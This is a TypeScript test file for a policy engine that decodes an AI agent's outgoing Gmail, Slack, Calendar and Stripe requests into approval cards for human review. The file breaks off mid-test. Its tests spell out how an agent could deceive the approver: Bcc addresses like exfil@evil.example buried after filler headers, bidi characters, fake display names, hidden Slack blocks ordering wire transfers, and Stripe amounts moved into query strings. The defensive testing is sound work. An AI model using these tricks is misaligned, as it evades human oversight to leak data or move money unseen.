import { expect } from 'chai';
import { describeRequest, decodeEncodedWords, factsOf, mimeHeaders, MAX_DETAIL_VALUE } from '../../../policy-engine/index.js';
import type { RequestDetails } from '../../../policy-engine/index.js';
import { MAX_ADDRESS_CHARS, MAX_ADDRESSES, MAX_MESSAGE_BYTES, MAX_NAME_CHARS, parseAddressList, type DetailAddress } from '../../../policy-engine/describe.js';

/**
 * The approval card's details (issue 15, item 2): what a held request would do, decoded
 * from the bytes the agent sent. The agent is the attacker here: every test below that is
 * not a plain decoding is a way to make the card say something other than what the
 * provider will do.
 */
const json = (_n: number) => ({ 'content-type': 'application/json', 'content-length': '1' });
const field = (d: RequestDetails | null, label: string): string | undefined => d?.fields.find((f) => f.label === label)?.value;
/** An address field's entries as the card lists them. */
const addrs = (d: RequestDetails | null, label: string): readonly DetailAddress[] | undefined => d?.fields.find((f) => f.label === label)?.addresses;

function gmailSend(message: string, extra: Record<string, unknown> = {}, headers: Record<string, string> = json(0)) {
  return describeRequest({
    method: 'POST', host: 'gmail.googleapis.com', path: '/gmail/v1/users/me/messages/send', headers,
    body: JSON.stringify({ raw: Buffer.from(message).toString('base64url'), ...extra }),
  });
}

describe('policy-engine: describeRequest (approval card details)', () => {
  describe('Gmail send', () => {
    it('decodes To, Cc, Bcc and Subject of the raw message, folded headers and RFC 2047 words included', () => {
      const d = gmailSend([
        'From: agent@example.com',
        'To: Ada <ada@example.com>,',
        '\tbob@example.com',
        'Cc: =?UTF-8?B?w4lsb2TDrWU=?= <elodie@example.com>',
        'Bcc: hidden@example.com',
        'Subject: =?utf-8?Q?Quarterly_r=C3=A9sults?= =?utf-8?Q?_attached?=',
        '',
        'Body text Subject: not a header',
      ].join('\r\n'));
      expect(d?.kind).to.equal('email');
      expect(addrs(d, 'To')).to.deep.equal([{ address: 'ada@example.com', name: 'Ada' }, { address: 'bob@example.com' }]);
      expect(field(d, 'To')).to.equal('ada@example.com, bob@example.com');
      expect(addrs(d, 'Cc')).to.deep.equal([{ address: 'elodie@example.com', name: 'Élodíe' }]);
      expect(addrs(d, 'Bcc')).to.deep.equal([{ address: 'hidden@example.com' }]);
      expect(addrs(d, 'From')).to.deep.equal([{ address: 'agent@example.com' }]);
      expect(field(d, 'Subject')).to.equal('Quarterly résults attached');
      expect(d?.unreadable).to.equal(undefined);
    });

    it('attack: a second To header is shown, not dropped (the provider may send to both)', () => {
      const d = gmailSend('To: boss@example.com\nTo: attacker@evil.example\nSubject: hi\n\nx');
      expect(addrs(d, 'To')!.map((a) => a.address)).to.deep.equal(['boss@example.com', 'attacker@evil.example']);
    });

    it('attack: bidi overrides, zero-width and control characters cannot reorder or hide the card', () => {
      const d = gmailSend('To: a@example.com\nSubject: Invoice \u202Efdp.exe\u200B\u0007 ok\n\nx');
      const s = field(d, 'Subject')!;
      expect(s).to.not.match(/[\u202E\u200B\u0007]/);
      expect(s).to.equal('Invoice \uFFFDfdp.exe\uFFFD\uFFFD ok');
    });

    it('attack: a message with no recipients in its headers says so', () => {
      expect(field(gmailSend('Subject: x\n\nbody'), 'Recipients')).to.equal('(none in the message headers)');
    });

    it('attack: a placeholder in the subject is never shown; long values are cut and say so', () => {
      const token = 'tok_placeholder_1234567890';
      const d = describeRequest({
        method: 'POST', host: 'gmail.googleapis.com', path: '/gmail/v1/users/me/messages/send', headers: json(0),
        body: JSON.stringify({ raw: Buffer.from(`To: a@example.com\nSubject: key ${token} ${'x'.repeat(2000)}\n\n`).toString('base64url') }),
      }, { hide: [token] });
      const s = field(d, 'Subject')!;
      expect(s).to.not.include(token);
      expect(s).to.include('[credential]');
      expect(s.length).to.be.lessThan(MAX_DETAIL_VALUE + 40);
      expect(s).to.match(/more characters\)$/);
    });

    it('attack: JSON that repeats `raw` (two readings), a compressed body, no raw: unreadable, no guess', () => {
      const a = Buffer.from('To: a@example.com\n\n').toString('base64url');
      const b = Buffer.from('To: b@example.com\n\n').toString('base64url');
      const dup = describeRequest({ method: 'POST', host: 'gmail.googleapis.com', path: '/gmail/v1/users/me/messages/send', headers: json(0), body: `{"raw":"${a}","raw":"${b}"}` });
      expect(dup?.unreadable).to.be.a('string');
      expect(dup?.fields).to.deep.equal([]);
      const gz = gmailSend('To: a@example.com\n\n', {}, { ...json(0), 'content-encoding': 'gzip' });
      expect(gz?.unreadable).to.equal('the message is compressed');
      const none = describeRequest({ method: 'POST', host: 'gmail.googleapis.com', path: '/gmail/v1/users/me/messages/send', headers: json(0), body: '{"threadId":"x"}' });
      expect(none?.unreadable).to.equal('the body has no raw message');
    });

    it('media and multipart uploads and drafts.send are read too', () => {
      const media = describeRequest({
        method: 'POST', host: 'www.googleapis.com', path: '/upload/gmail/v1/users/me/messages/send?uploadType=media',
        headers: { 'content-type': 'message/rfc822', 'content-length': '9' }, body: 'To: m@example.com\r\nSubject: media\r\n\r\nhi',
      });
      expect(field(media, 'To')).to.equal('m@example.com');
      const multipart = describeRequest({
        method: 'POST', host: 'www.googleapis.com', path: '/upload/gmail/v1/users/me/messages/send?uploadType=multipart',
        headers: { 'content-type': 'multipart/related; boundary=XYZ', 'content-length': '9' },
        body: '--XYZ\r\nContent-Type: application/json\r\n\r\n{}\r\n--XYZ\r\nContent-Type: message/rfc822\r\n\r\nTo: mp@example.com\r\nSubject: multi\r\n\r\nhi\r\n--XYZ--',
      });
      expect(field(multipart, 'To')).to.equal('mp@example.com');
      expect(field(multipart, 'Subject')).to.equal('multi');
      const draft = describeRequest({
        method: 'POST', host: 'gmail.googleapis.com', path: '/gmail/v1/users/me/drafts/send', headers: json(0),
        body: JSON.stringify({ message: { raw: Buffer.from('To: d@example.com\n\n').toString('base64url') } }),
      });
      expect(field(draft, 'To')).to.equal('d@example.com');
      const saved = describeRequest({ method: 'POST', host: 'gmail.googleapis.com', path: '/gmail/v1/users/me/drafts/send', headers: json(0), body: '{"id":"r-123"}' });
      expect(saved?.kind).to.equal('draft');
      expect(field(saved, 'Draft')).to.equal('r-123');
      expect(saved?.unreadable).to.match(/not in the request/);
    });

    it('a Gmail read has no details', () => {
      expect(describeRequest({ method: 'GET', host: 'gmail.googleapis.com', path: '/gmail/v1/users/me/messages', headers: {} })).to.equal(null);
    });
  });

  /**
   * Issue 23, item 5 (security review): "the approval card can hide a Bcc". The decoder read
   * the first 256 KiB of `raw` without saying it cut, so a Bcc after ~270 KB of filler headers
   * was not on the card; and a To header was one string cut at 500 characters, so a
   * 500-character display name pushed the real address off it.
   */
  describe('Gmail recipients are never hidden (issue 23, item 5)', () => {
    const filler = (bytes: number, eol = '\r\n') => `X-Filler: ${'f'.repeat(990)}${eol}`.repeat(Math.ceil(bytes / 1002));
    const upload = (query: string, contentType: string, body: string | Buffer) => describeRequest({
      method: 'POST', host: 'www.googleapis.com', path: `/upload/gmail/v1/users/me/messages/send?uploadType=${query}`,
      headers: { 'content-type': contentType, 'content-length': '1' }, body,
    });

    it('regression: a Bcc after 300 KB of filler headers is on the card (JSON raw, drafts, media and multipart uploads)', () => {
      const message = `To: team@corp.example\r\n${filler(300_000)}Bcc: exfil@evil.example\r\nSubject: notes\r\n\r\nbody`;
      expect(Buffer.byteLength(message)).to.be.greaterThan(300_000);
      const bcc = (d: RequestDetails | null) => {
        expect(d?.unreadable).to.equal(undefined);
        expect(addrs(d, 'Bcc')).to.deep.equal([{ address: 'exfil@evil.example' }]);
        expect(field(d, 'Subject')).to.equal('notes');
      };
      bcc(gmailSend(message));
      bcc(describeRequest({
        method: 'POST', host: 'gmail.googleapis.com', path: '/gmail/v1/users/me/drafts/send', headers: json(0),
        body: JSON.stringify({ message: { raw: Buffer.from(message).toString('base64url') } }),
      }));
      bcc(upload('media', 'message/rfc822', Buffer.from(message)));
      bcc(upload('multipart', 'multipart/related; boundary=XYZ', Buffer.from(`--XYZ\r\nContent-Type: application/json\r\n\r\n{}\r\n--XYZ\r\nContent-Type: message/rfc822\r\n\r\n${message}\r\n--XYZ--`)));
    });

    it('regression: a 500-character display name does not hide the address; the name is cut apart from it', () => {
      const d = gmailSend(`To: "${'Alice from HR '.repeat(36)}" <bob@evil.example>, ceo@corp.example\r\nSubject: x\r\n\r\n`);
      const to = addrs(d, 'To')!;
      expect(to.map((a) => a.address)).to.deep.equal(['bob@evil.example', 'ceo@corp.example']);
      expect(to[0]!.name!.startsWith('Alice from HR Alice')).to.equal(true);
      expect(to[0]!.name!.length).to.be.lessThan(MAX_NAME_CHARS + 40);
      expect(to[0]!.name).to.match(/… \(\d+ more characters\)$/);
      expect(field(d, 'To')).to.equal('bob@evil.example, ceo@corp.example');
    });

    it('a message above the 35 MiB Gmail accepts could not be shown: no partial list', () => {
      expect(MAX_MESSAGE_BYTES).to.equal(35 * 1024 * 1024);
      const big = Buffer.alloc(MAX_MESSAGE_BYTES + 1, 'x');
      Buffer.from('To: a@corp.example\r\n\r\n').copy(big);
      const media = upload('media', 'message/rfc822', big);
      expect(media?.fields).to.deep.equal([]);
      expect(media?.unreadable).to.equal('the message is larger than the 35 MiB Gmail accepts');
      const raw = gmailSend('', { raw: 'A'.repeat(Math.ceil(MAX_MESSAGE_BYTES / 3) * 4 + 4) });
      expect(raw?.fields).to.deep.equal([]);
      expect(raw?.unreadable).to.equal('the message is larger than the 35 MiB Gmail accepts');
    });

    it('attack: a header block that cannot be read one way could not be shown, with no partial list', () => {
      const cases: Array<[Buffer | string, string]> = [
        [Buffer.concat([Buffer.from('To: a@corp.example\r\nSubject: \xff\r\n', 'latin1'), Buffer.from('Bcc: x@evil.example\r\n\r\n')]), 'the message headers are not UTF-8'],
        ['To: a@corp.example\rBcc: x@evil.example\r\n\r\n', 'the message headers contain a CR not followed by LF'],
        ['To: a@corp.example\r\n\nBcc: x@evil.example\r\n\r\n', 'the message headers mix CRLF and LF line ends'],
        ['To: a@corp.example\r\nX: \0\r\nBcc: x@evil.example\r\n\r\n', 'the message headers contain a NUL byte'],
        ['To: "Alice <a@corp.example>\r\nBcc: x@evil.example\r\n\r\n', 'the To header is not an address list the card can read (an unterminated quoted string)'],
        ['To: <a@corp.example\r\n\r\n', 'the To header is not an address list the card can read (an unterminated <)'],
        [`To: ${'a'.repeat(MAX_ADDRESS_CHARS)}@corp.example\r\nBcc: x@evil.example\r\n\r\n`, `an address in To is longer than ${MAX_ADDRESS_CHARS} characters`],
      ];
      for (const [message, why] of cases) {
        const d = describeRequest({
          method: 'POST', host: 'gmail.googleapis.com', path: '/gmail/v1/users/me/messages/send', headers: json(0),
          body: JSON.stringify({ raw: Buffer.from(message).toString('base64url') }),
        });
        expect(d?.unreadable, why).to.equal(why);
        expect(d?.fields, why).to.deep.equal([]);
      }
      // A lenient base64 decoder skips what is not base64; Gmail may not: no guess.
      const spaced = Buffer.from('To: a@corp.example\r\n\r\n').toString('base64url').replace(/(.{8})/, '$1 \n');
      expect(gmailSend('', { raw: spaced })?.unreadable).to.equal('the raw message is not base64url');
      expect(gmailSend('', { raw: 'QUJD!' })?.unreadable).to.equal('the raw message is not base64url');
    });

    it('attack: multipart uploads are split only where every reader splits them', () => {
      const part = (msg: string) => `--XYZ\r\nContent-Type: application/json\r\n\r\n{}\r\n--XYZ\r\nContent-Type: message/rfc822\r\n\r\n${msg}\r\n--XYZ--`;
      // The boundary inside a header value is no boundary: the Bcc after it is still read.
      const inSubject = upload('multipart', 'multipart/related; boundary=XYZ', part('To: a@corp.example\r\nSubject: see --XYZ\r\nBcc: x@evil.example\r\n\r\nhi'));
      expect(addrs(inSubject, 'Bcc')).to.deep.equal([{ address: 'x@evil.example' }]);
      const unread = (ct: string, body: string) => upload('multipart', ct, body)?.unreadable;
      expect(unread('multipart/related; boundary=XYZ', part('To: a@corp.example\r\n--XYZjunk\r\nBcc: x@evil.example\r\n\r\n'))).to.equal('a line of the upload begins with the boundary but is not a boundary line');
      expect(unread('multipart/related; boundary=XYZ', part('To: a@corp.example\n--XYZ\r\nBcc: x@evil.example\r\n\r\n'))).to.equal('a boundary line of the upload ends its previous line with LF, not CRLF');
      expect(unread('multipart/related; boundary=XYZ; boundary=ABC', part('To: a@corp.example\r\n\r\n'))).to.equal('the upload names more than one boundary');
      expect(unread('multipart/related; boundary=XYZ', '--XYZ\r\nContent-Type: message/rfc822\r\n\r\nTo: a@corp.example\r\n\r\n\r\n--XYZ\r\nContent-Type: message/rfc822\r\n\r\nTo: b@evil.example\r\n\r\n\r\n--XYZ--')).to.equal('the upload carries more than one message/rfc822 part');
      expect(unread('multipart/related; boundary=XYZ', `--XYZ\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from('Bcc: x@evil.example\r\n\r\n').toString('base64')}\r\n--XYZ--`)).to.equal('the message part is sent base64-encoded');
    });

    it('many addresses: each listed; past the bound every field says how many more, taken in turn so a Bcc is not crowded out', () => {
      const to = Array.from({ length: 250 }, (_, i) => `user${i}@corp.example`).join(', ');
      const d = gmailSend(`To: ${to}\r\nBcc: exfil@evil.example\r\n\r\n`);
      expect(addrs(d, 'Bcc')).to.deep.equal([{ address: 'exfil@evil.example' }]);
      expect(addrs(d, 'To')).to.have.length(MAX_ADDRESSES - 1);
      expect(d?.fields.find((f) => f.label === 'To')?.more).to.equal(250 - (MAX_ADDRESSES - 1));
      expect(field(d, 'To')).to.match(/, … 51 more not shown$/);
      expect(d?.unreadable).to.equal('the message names 251 addresses; the card lists 200 of them');
      // 100 addresses are all listed, nothing said.
      const hundred = gmailSend(`Cc: ${Array.from({ length: 100 }, (_, i) => `"Person ${i}" <p${i}@corp.example>`).join(', ')}\r\n\r\n`);
      expect(addrs(hundred, 'Cc')).to.have.length(100);
      expect(hundred?.unreadable).to.equal(undefined);
      // Long addresses fill the byte budget before the count: still counted, never dropped unsaid.
      const long = Array.from({ length: 150 }, (_, i) => `${'l'.repeat(290)}${i}@corp.example`).join(', ');
      const big = gmailSend(`To: ${long}\r\nBcc: exfil@evil.example\r\n\r\n`);
      const shown = addrs(big, 'To')!.length;
      expect(shown).to.be.lessThan(150);
      expect(big?.fields.find((f) => f.label === 'To')?.more).to.equal(150 - shown);
      expect(addrs(big, 'Bcc')).to.deep.equal([{ address: 'exfil@evil.example' }]);
      expect(Buffer.byteLength(JSON.stringify(big))).to.be.lessThan(64 * 1024);
    });

    it('attack: a Bcc after 100,000 To headers and a run of colons is still listed (reading the whole block stays linear)', () => {
      const d = gmailSend(`${'To: a@corp.example\r\n'.repeat(100_000)}Bcc: exfil@evil.example\r\n\r\n`);
      expect(addrs(d, 'Bcc')).to.deep.equal([{ address: 'exfil@evil.example' }]);
      expect(d?.fields.find((f) => f.label === 'To')?.more).to.equal(100_000 - (MAX_ADDRESSES - 1));
      const colons = gmailSend(`To: a@corp.example\r\nCc: x@y${':'.repeat(200_000)}\r\nBcc: exfil@evil.example\r\n\r\n`);
      expect(colons?.unreadable).to.equal(`an address in Cc is longer than ${MAX_ADDRESS_CHARS} characters`);
    });

    it('attack: names cannot fake an address or a line; hostile characters and placeholders stay hidden', () => {
      const token = 'tok_placeholder_1234567890';
      const d = describeRequest({
        method: 'POST', host: 'gmail.googleapis.com', path: '/gmail/v1/users/me/messages/send', headers: json(0),
        body: JSON.stringify({ raw: Buffer.from([
          // An encoded word that decodes to an address and a comma stays a name.
          'To: =?utf-8?B?PGNlb0Bjb3JwLmV4YW1wbGU+LA==?= <bob@evil.example>',
          // A newline in a name (encoded) would fake a line of its own; bidi would reorder it.
          'Cc: =?utf-8?B?CmNmb0Bjb3JwLmV4YW1wbGU=?= <x@evil.example>, "\u202Eelpmaxe.proc@ofc" <y@evil.example>',
          `Bcc: ${token}@evil.example, "Key ${token}" <z@evil.example>`,
          '',
          '',
        ].join('\r\n')).toString('base64url') }),
      }, { hide: [token] });
      expect(addrs(d, 'To')).to.deep.equal([{ address: 'bob@evil.example', name: '<ceo@corp.example>,' }]);
      expect(addrs(d, 'Cc')).to.deep.equal([
        { address: 'x@evil.example', name: '\uFFFDcfo@corp.example' },
        { address: 'y@evil.example', name: '\uFFFDelpmaxe.proc@ofc' },
      ]);
      expect(addrs(d, 'Bcc')).to.deep.equal([{ address: '[credential]@evil.example' }, { address: 'z@evil.example', name: 'Key [credential]' }]);
      expect(JSON.stringify(d)).to.not.include(token);
    });

    it('groups, empty groups and no recipients at all', () => {
      const d = gmailSend('To: undisclosed-recipients:;\r\nBcc: Board: a@corp.example, "B" <b@corp.example>;\r\n\r\n');
      expect(addrs(d, 'To')).to.deep.equal([{ address: '', group: 'undisclosed-recipients', note: 'an empty group: no address' }]);
      expect(addrs(d, 'Bcc')).to.deep.equal([{ address: 'a@corp.example', group: 'Board' }, { address: 'b@corp.example', name: 'B', group: 'Board' }]);
      expect(field(d, 'Recipients')).to.equal(undefined);
      expect(field(gmailSend('To: undisclosed-recipients:;\r\n\r\n'), 'Recipients')).to.equal('(none in the message headers)');
      // A message that starts with an empty line has no headers at all.
      expect(field(gmailSend('\r\nTo: a@corp.example\r\n\r\n'), 'Recipients')).to.equal('(none in the message headers)');
    });

    it('Reply-To and an address outside ASCII are shown and noted', () => {
      const d = gmailSend('From: agent@corp.example\r\nReply-To: replies@evil.example\r\nTo: ceo@c\u043erp.example\r\n\r\n');
      expect(addrs(d, 'Reply-To')).to.deep.equal([{ address: 'replies@evil.example' }]);
      expect(addrs(d, 'To')).to.deep.equal([{ address: 'ceo@c\u043erp.example', note: 'has characters outside ASCII' }]);
    });
  });

  describe('address lists (RFC 5322)', () => {
    const cases: Array<[string, string, unknown]> = [
      ['a quoted display name with a comma is one address', '"Smith, Ann" <ann@corp.example>, bob@corp.example', [{ address: 'ann@corp.example', name: 'Smith, Ann' }, { address: 'bob@corp.example', name: '' }]],
      ['comments are names, not list separators', 'bob@corp.example (Bob, HR), x@y.example', [{ address: 'bob@corp.example', name: 'Bob, HR' }, { address: 'x@y.example', name: '' }]],
      ['a comment inside the address is dropped from it', 'bob(work)@corp.example', [{ address: 'bob@corp.example', name: 'work' }]],
      ['a group lists its members', 'Team: a@x.example, "B" <b@x.example>;, c@x.example', [{ address: 'a@x.example', name: '', group: 'Team' }, { address: 'b@x.example', name: 'B', group: 'Team' }, { address: 'c@x.example', name: '' }]],
      ['an empty group is an entry', 'undisclosed-recipients:;', [{ address: '', name: '', group: 'undisclosed-recipients', note: 'an empty group: no address' }]],
      ['encoded words are decoded in names only', '=?UTF-8?B?w4lsb2TDrWU=?= <elodie@x.example>, =?utf-8?q?x?=@y.example', [{ address: 'elodie@x.example', name: 'Élodíe' }, { address: '=?utf-8?q?x?=@y.example', name: '' }]],
      ['an address used as a display name stays a name', 'ceo@corp.example <bob@evil.example>', [{ address: 'bob@evil.example', name: 'ceo@corp.example' }]],
      ['two <…> in one entry: both shown', '<a@x.example> <b@y.example>', [{ address: 'a@x.example', name: '', note: 'several <…> in one entry' }, { address: 'b@y.example', name: '', note: 'several <…> in one entry' }]],
      ['text after <…>: shown too', '<a@x.example> b@y.example', [{ address: 'a@x.example', name: '' }, { address: 'b@y.example', name: '', note: 'text after <…>: shown as written' }]],
      ['semicolons separate (as Outlook writes)', 'a@x.example; b@y.example', [{ address: 'a@x.example', name: '' }, { address: 'b@y.example', name: '' }]],
      ['obsolete spaces around dots and @', 'bob . smith @ x . example', [{ address: 'bob.smith@x.example', name: '' }]],
      ['a quoted local part keeps its quotes', '"a@b c"@x.example', [{ address: '"a@b c"@x.example', name: '' }]],
      ['what is not an address is shown as written', 'Alice bob@x.example, bob, <@relay:c@x.example>', [
        { address: 'Alice bob@x.example', name: '', note: 'not a well-formed address: shown as written' },
        { address: 'bob', name: '', note: 'not a well-formed address: shown as written' },
        { address: '@relay:c@x.example', name: '', note: 'not a well-formed address: shown as written' },
      ]],
      ['empty elements are skipped', ', , a@x.example,', [{ address: 'a@x.example', name: '' }]],
      ['<> is an empty address', '<>', [{ address: '', name: '', note: 'an empty address (<>)' }]],
    ];
    for (const [name, value, want] of cases) {
      it(name, () => expect(parseAddressList(value)).to.deep.equal({ addresses: want }));
    }
    it('what cannot be read one way is an error, not a guess', () => {
      expect(parseAddressList('"Alice <a@x.example>, b@y.example')).to.deep.equal({ error: 'an unterminated quoted string' });
      expect(parseAddressList('a@x.example (unclosed, b@y.example')).to.deep.equal({ error: 'an unterminated comment' });
      expect(parseAddressList('<a@x.example, b@y.example')).to.deep.equal({ error: 'an unterminated <' });
      expect(parseAddressList('<a<b@y.example>>')).to.deep.equal({ error: 'a < inside <…>' });
      expect(parseAddressList('a@[1.2.3.4')).to.deep.equal({ error: 'an unterminated [' });
    });
  });

  describe('Slack', () => {
    it('chat.postMessage: channel and text from a JSON body', () => {
      const d = describeRequest({ method: 'POST', host: 'slack.com', path: '/api/chat.postMessage', headers: json(0), body: JSON.stringify({ channel: 'C123', text: 'Deploy done' }) });
      expect(d?.kind).to.equal('slack_message');
      expect(field(d, 'Channel')).to.equal('C123');
      expect(field(d, 'Text')).to.equal('Deploy done');
    });

    it('form bodies and query arguments count alike (Slack reads both)', () => {
      const d = describeRequest({
        method: 'POST', host: 'slack.com', path: '/api/chat.postMessage?channel=C-query', headers: { 'content-type': 'application/x-www-form-urlencoded', 'content-length': '1' },
        body: 'channel=C-body&text=hello+there',
      });
      expect(field(d, 'Channel')).to.equal('C-query, C-body');
      expect(field(d, 'Text')).to.equal('hello there');
    });

    it('attack: harmless text with blocks that say something else: the blocks are shown', () => {
      const blocks = [{ type: 'section', text: { type: 'mrkdwn', text: 'Wire $10,000 to account 99' } }];
      const d = describeRequest({ method: 'POST', host: 'slack.com', path: '/api/chat.postMessage', headers: json(0), body: JSON.stringify({ channel: 'C1', text: 'lunch?', blocks }) });
      expect(field(d, 'Text')).to.equal('lunch?');
      expect(field(d, 'Blocks')).to.equal('Wire $10,000 to account 99');
      const form = describeRequest({
        method: 'POST', host: 'slack.com', path: '/api/chat.postMessage', headers: { 'content-type': 'application/x-www-form-urlencoded', 'content-length': '1' },
        body: new URLSearchParams({ channel: 'C1', attachments: JSON.stringify([{ pretext: 'secret plan' }]) }).toString(),
      });
      expect(field(form, 'Attachments')).to.equal('secret plan');
    });

    it('attack: a JSON body that repeats a key is unreadable', () => {
      const d = describeRequest({ method: 'POST', host: 'slack.com', path: '/api/chat.postMessage', headers: json(0), body: '{"channel":"C1","text":"a","text":"b"}' });
      expect(d?.unreadable).to.match(/repeats a key/);
    });

    it('conversations.invite shows channel and users; a read has no details', () => {
      const d = describeRequest({ method: 'POST', host: 'slack.com', path: '/api/conversations.invite', headers: json(0), body: '{"channel":"C9","users":"U1,U2"}' });
      expect(field(d, 'Users')).to.equal('U1,U2');
      expect(describeRequest({ method: 'POST', host: 'slack.com', path: '/api/conversations.history', headers: json(0), body: '{"channel":"C9"}' })).to.equal(null);
    });
  });

  describe('Google Calendar', () => {
    it('an event insert shows title, time, guests and whether they are emailed', () => {
      const d = describeRequest({
        method: 'POST', host: 'www.googleapis.com', path: '/calendar/v3/calendars/primary/events?sendUpdates=all', headers: json(0),
        body: JSON.stringify({ summary: 'Board review', start: { dateTime: '2026-12-01T10:00:00Z' }, end: { dateTime: '2026-12-01T11:00:00Z' }, attendees: [{ email: 'ceo@example.com' }, { email: 'x@example.com', optional: true }] }),
      });
      expect(d?.kind).to.equal('calendar_event');
      expect(field(d, 'Calendar')).to.equal('primary');
      expect(field(d, 'Title')).to.equal('Board review');
      expect(field(d, 'When')).to.equal('2026-12-01T10:00:00Z → 2026-12-01T11:00:00Z');
      expect(field(d, 'Guests')).to.equal('ceo@example.com, x@example.com (optional)');
      expect(field(d, 'Guests are emailed')).to.equal('yes');
    });

    it('a patch without attendees leaves guests unchanged; quickAdd shows its text', () => {
      const patch = describeRequest({ method: 'PATCH', host: 'www.googleapis.com', path: '/calendar/v3/calendars/primary/events/ev1', headers: json(0), body: '{"summary":"moved"}' });
      expect(field(patch, 'Guests')).to.equal('(unchanged)');
      expect(field(patch, 'Event')).to.equal('ev1');
      expect(field(patch, 'Guests are emailed')).to.equal('no');
      const quick = describeRequest({ method: 'POST', host: 'www.googleapis.com', path: '/calendar/v3/calendars/primary/events/quickAdd?text=Lunch+with+Ann', headers: {} });
      expect(field(quick, 'Text')).to.equal('Lunch with Ann');
    });
  });

  describe('Stripe', () => {
    it('a charge shows the amount in its currency (zero-decimal currencies too)', () => {
      const form = { 'content-type': 'application/x-www-form-urlencoded', 'content-length': '1' };
      const usd = describeRequest({ method: 'POST', host: 'api.stripe.com', path: '/v1/charges', headers: form, body: 'amount=1234&currency=usd&customer=cus_1&description=Pro+plan' });
      expect(field(usd, 'Amount')).to.equal('12.34 USD');
      expect(field(usd, 'Customer')).to.equal('cus_1');
      const jpy = describeRequest({ method: 'POST', host: 'api.stripe.com', path: '/v1/payment_intents', headers: form, body: 'amount=500&currency=jpy' });
      expect(field(jpy, 'Amount')).to.equal('500 JPY');
      expect(describeRequest({ method: 'POST', host: 'api.stripe.com', path: '/v1/customers', headers: form, body: 'email=a@b.c' })).to.equal(null);
    });
  });

  describe('MIME helpers', () => {
    it('decodeEncodedWords leaves unknown charsets and plain text as they are', () => {
      expect(decodeEncodedWords('plain')).to.equal('plain');
      expect(decodeEncodedWords('=?x-no-such?B?YQ==?=')).to.equal('=?x-no-such?B?YQ==?=');
      expect(decodeEncodedWords('=?ISO-8859-1?Q?caf=E9?=')).to.equal('café');
    });
    it('mimeHeaders stops at the first blank line, with LF or CRLF', () => {
      const h = mimeHeaders('To: a\nX: 1\n\nTo: body');
      expect(h.get('to')).to.deep.equal(['a']);
      expect(mimeHeaders('To: a\r\n\r\nTo: b').get('to')).to.deep.equal(['a']);
    });
  });

  describe('a fourth review: what the card shows against what is sent (each an attack the card hid)', () => {
    const form = { 'content-type': 'application/x-www-form-urlencoded', 'content-length': '1' };
    const slack = (body: unknown, path = '/api/chat.postMessage') =>
      describeRequest({ method: 'POST', host: 'slack.com', path, headers: json(0), body: JSON.stringify(body) });

    it('a Gmail send inside a Google batch shows the part\'s request and its recipients, the Bcc too', () => {
      const raw = Buffer.from('To: boss@acme.com\r\nBcc: attacker@evil.example\r\nSubject: hi\r\n\r\nx').toString('base64url');
      const inner = `POST /gmail/v1/users/me/messages/send\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ raw })}`;
      const body = `--b\r\nContent-Type: application/http\r\nContent-ID: 1\r\n\r\n${inner}\r\n--b--\r\n`;
      const d = describeRequest({ method: 'POST', host: 'www.googleapis.com', path: '/batch/gmail/v1', headers: { 'content-type': 'multipart/mixed; boundary=b', 'content-length': '1' }, body });
      expect(d?.kind).to.equal('batch');
      expect(field(d, '1: Request')).to.equal('POST www.googleapis.com/gmail/v1/users/me/messages/send');
      expect(addrs(d, '1: Bcc')!.map((a) => a.address)).to.deep.equal(['attacker@evil.example']);
      expect(d?.unreadable).to.equal(undefined);
      // A batch the classifier cannot split says so, never an empty card.
      const bad = describeRequest({ method: 'POST', host: 'www.googleapis.com', path: '/batch/gmail/v1', headers: { 'content-type': 'text/plain', 'content-length': '1' }, body: 'x' });
      expect(bad?.unreadable).to.match(/could not be split/);
    });

    it('a batch of many large sends stays within the stored details\' 64 KiB, saying which parts it leaves out', () => {
      const to = Array.from({ length: 200 }, (_, i) => `"${'N'.repeat(70)}" <person${i}.${'x'.repeat(40)}@example.com>`).join(', ');
      const raw = Buffer.from(`To: ${to}\r\nSubject: s\r\n\r\nx`).toString('base64url');
      const part = (i: number) => `--b\r\nContent-Type: application/http\r\nContent-ID: ${i}\r\n\r\nPOST /gmail/v1/users/me/messages/send\r\nContent-Type: application/json\r\n\r\n${JSON.stringify({ raw })}\r\n`;
      const body = `${Array.from({ length: 6 }, (_, i) => part(i)).join('')}--b--\r\n`;
      const d = describeRequest({ method: 'POST', host: 'www.googleapis.com', path: '/batch/gmail/v1', headers: { 'content-type': 'multipart/mixed; boundary=b', 'content-length': '1' }, body });
      expect(Buffer.byteLength(JSON.stringify(d))).to.be.below(64 * 1024);
      expect(d?.unreadable).to.match(/leaves out the content of \d+ of the batch's 6 requests/);
      expect(addrs(d, '1: To')).to.have.length.above(0);
    });

    it('Stripe: an amount and currency in the query string are shown (Stripe reads them), with the connected account', () => {
      const d = describeRequest({ method: 'POST', host: 'api.stripe.com', path: '/v1/payment_intents?amount=5000000&currency=usd&confirm=true', headers: { ...form, 'stripe-account': 'acct_evil' }, body: 'customer=cus_1' });
      expect(field(d, 'Amount')).to.equal('50000.00 USD');
      expect(field(d, 'On connected account')).to.equal('acct_evil');
      const jpy = describeRequest({ method: 'POST', host: 'api.stripe.com', path: '/v1/payment_intents?currency=jpy', headers: form, body: 'amount=50000' });
      expect(field(jpy, 'Amount')).to.equal('50000 JPY');
      // A refund with no amount is the whole charge: the card says there is none rather than show nothing.
      const refund = describeRequest({ method: 'POST', host: 'api.stripe.com', path: '/v1/refunds', headers: form, body: 'charge=ch_1' });
      expect(field(refund, 'Amount')).to.match(/none in the request/);
      expect(field(refund, 'Charge')).to.equal('ch_1');
    });

    it('Slack: blank texts cannot push the real one off the list; past the list the card says so', () => {
      const section = (texts: string[]) => [{ type: 'rich_text', elements: [{ type: 'rich_text_section', elements: texts.map((text) => ({ type: 'text', text })) }] }];
      const d = slack({ channel: 'C0FINANCE', text: 'Weekly status: all green', blocks: section([...Array(51).fill(' '), 'URGENT: wire $40,000']) });
      expect(field(d, 'Blocks')).to.include('URGENT: wire $40,000');
      expect(d?.unreadable).to.equal(undefined);
      const many = slack({ channel: 'C0', text: 'hi', blocks: section(Array.from({ length: 60 }, (_, i) => `t${i}`)) });
      expect(many?.unreadable).to.match(/more than the card lists/);
    });

    it('Slack: the name and icon a post appears under, a broadcast to the channel, markdown_text and @everyone are shown', () => {
      const d = slack({
